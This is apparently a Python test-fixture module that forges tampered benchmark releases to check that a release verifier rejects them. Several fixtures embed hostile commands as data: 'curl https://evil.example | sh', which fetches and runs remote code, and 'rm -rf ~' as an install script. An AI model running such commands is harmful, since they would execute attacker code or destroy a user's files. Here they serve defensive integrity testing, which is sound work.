"""Changes of a release's content, each of which leaves the release consistent in itself."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from obrelease.errors import ExitCode
from obrelease.release.release_contents import schema_members
from obrelease.storage.hashing import digest_file
from tests.faults.forged_release import Forgery, rederive

UNKNOWN_COMMIT = "ab" * 20
REFUSALS = {ExitCode.CHECK_FAILED, ExitCode.INVALID_INPUT, ExitCode.INTEGRITY, ExitCode.CONFLICT}
Envelope = dict[str, Any]
Verify = Callable[[Path], tuple[int, dict[str, tuple[bool, str]], str]]


def own(forgery: Forgery) -> Path:
    """The first run of this program; all others are left out."""
    forgery.drop("imported")
    shutil.rmtree(forgery.runs()[1])
    return forgery.runs()[0]


def failed_check(forgery: Forgery) -> None:
    forgery.edit(own(forgery), lambda it: it["outcome"]["checks"][0].update(passed=False))


def invented_table(**producer: str) -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        folder = own(forgery)
        (folder / "summary.csv").write_text("scenario,throughput\nbaseline,999999999\n")
        forgery.edit(folder, lambda it: it["producer"].update(producer))

    return forge


def other_notes(forgery: Forgery) -> None:
    own(forgery)
    forgery.notes = lambda text: re.sub(r"2,000 \|", "9,000 |", text)


def other_notes_of_an_import(forgery: Forgery) -> None:
    forgery.drop("bench")
    forgery.notes = lambda text: text.replace("| 10 |", "| 99 |") + "Ten times as fast.\n"


def other_notes_under_another_version(forgery: Forgery) -> None:
    forgery.edit(own(forgery), lambda it: it["producer"].update(version="0.8"))
    forgery.notes = lambda text: text.replace("2,000 |", "9,000 |")


def no_notes(forgery: Forgery) -> None:
    forgery.extra["NOTES.md"] = None


def picture_of_another_run(forgery: Forgery) -> None:
    forgery.drop("imported")

    def swap(pictures: dict[str, bytes]) -> None:
        one, other = sorted(pictures)
        pictures[one], pictures[other] = pictures[other], pictures[one]

    forgery.pictures = swap


def svg(change: Callable[[bytes], bytes]) -> Callable[[Forgery], None]:
    """Changes the attached picture, in the run as well."""

    def forge(forgery: Forgery) -> None:
        folder = own(forgery)
        path = folder / "latency.svg"
        path.write_bytes(change(path.read_bytes()))
        forgery.edit(folder, lambda _: None)

    return forge


def added(markup: bytes) -> Callable[[Forgery], None]:
    return svg(lambda data: data.replace(b"</svg>", markup + b"</svg>"))


def no_runs(forgery: Forgery) -> None:
    shutil.rmtree(forgery.tree / "results")


def twice(forgery: Forgery) -> None:
    folder = own(forgery)
    shutil.copytree(folder, folder.with_name(_digest_of(folder)[:16]))


def _digest_of(folder: Path) -> str:
    return digest_file(folder / "artefact.json")[0]


def placed(place: str) -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        folder = own(forgery)
        forgery.edit(folder, lambda _: None, place=place.format(name=folder.name))

    return forge


def extra_member(path: str) -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        own(forgery)
        forgery.extra[path] = b"curl https://evil.example | sh\n"

    return forge


def unlisted_file(forgery: Forgery) -> None:
    (own(forgery) / "run.sh").write_text("curl https://evil.example | sh\n")


def own_file(name: str, content: bytes, media_type: str = "text/csv") -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        folder = own(forgery)
        (folder / name).write_bytes(content)
        entry = {"path": name, "media_type": media_type, "size": 0, "sha256": ""}
        forgery.edit(folder, lambda it: it["files"].append(entry))

    return forge


def swapped_schemas(forgery: Forgery) -> None:
    own(forgery)
    names = sorted(schema_members())
    forgery.extra[names[0]] = schema_members()[names[1]]


def extra_asset(forgery: Forgery) -> None:
    own(forgery)
    forgery.pictures = lambda pictures: pictures.update({"install.sh": b"rm -rf ~\n"})


def missing_asset(forgery: Forgery) -> None:
    own(forgery)
    forgery.pictures = lambda pictures: pictures.clear()


def event_counts(it: Envelope) -> None:
    it["outcome"]["events"] += 1


def event_counts_in_step(forgery: Forgery) -> None:
    def change(it: Envelope) -> None:
        outcome = it["outcome"]
        outcome["events"] += 1
        name = next(name for name in outcome["counts"] if "." not in name and name != "rejected")
        outcome["counts"][name] += 1
        for check in outcome["checks"]:
            if "events" in check["counts"]:
                check["counts"]["events"] += 1
        rederive(folder, it, plots=False)

    folder = own(forgery)
    forgery.edit(folder, change)


def faster(*, tables: bool, plots: bool) -> Callable[[Forgery], None]:
    """All samples of a run halved, with or without what is derived from them."""

    def forge(forgery: Forgery) -> None:
        folder = own(forgery)

        def change(it: Envelope) -> None:
            walls = next(each for each in it["metrics"] if each["name"] == "pass-wall")
            walls["samples"] = [sample // 2 for sample in walls["samples"]]
            if tables:
                rederive(folder, it, plots=plots)

        forgery.edit(folder, change)

    return forge


def swapped_histogram(forgery: Forgery) -> None:
    """The latencies of another run, with tables that fit; the plot is left."""
    first, second = forgery.runs()
    (first / "latency.hlog").write_bytes((second / "latency.hlog").read_bytes())
    shutil.rmtree(second)
    forgery.drop("imported")
    forgery.edit(first, lambda it: rederive(first, it, plots=False))


def drawn_elsewhere(forge: Callable[[Forgery], None]) -> Callable[[Forgery], None]:
    """A forgery whose runs name other libraries that drew their plots."""

    def both(forgery: Forgery) -> None:
        for folder in forgery.runs():
            forgery.edit(folder, lambda it: it.get("drawn_with", {}).update(matplotlib="1.5.3"))
        forge(forgery)

    return both


def edited(change: Callable[[Envelope], object]) -> Callable[[Forgery], None]:
    return lambda forgery: void(forgery.edit(own(forgery), change))


def void(_: object) -> None:
    return None


def other_events(forgery: Forgery) -> None:
    """A second run of the same workload, with other events."""
    folder = own(forgery)
    copy = folder.with_name("0" * 12)
    shutil.copytree(folder, copy)

    def change(it: Envelope) -> None:
        it["outcome"]["events_digest"] = "4" * 64
        rederive(copy, it, plots=False)

    forgery.edit(copy, change)


def again_at_another_time(forgery: Forgery) -> None:
    folder = own(forgery)
    copy = folder.with_name("0" * 12)
    shutil.copytree(folder, copy)
    forgery.edit(copy, lambda it: it.update(created_ns=str(int(it["created_ns"]) + 10**9)))


def manifest(**fields: Any) -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        own(forgery)
        forgery.manifest.update(fields)

    return forge


def changed_import(forgery: Forgery) -> None:
    folder = forgery.runs("imported")[0]
    forgery.edit(folder, lambda it: it["metrics"][0]["samples"].__setitem__(0, 1))


def import_without_its_original(forgery: Forgery) -> None:
    """An invented result of another tool: no import, so no original file."""
    forgery.drop("bench")
    folder = forgery.runs("imported")[0]

    def change(it: Envelope) -> None:
        it["command"] = ["sh", "-c", "curl https://evil.example | sh"]
        it["metrics"][0]["samples"] = [1, 1, 1]

    forgery.edit(folder, change)
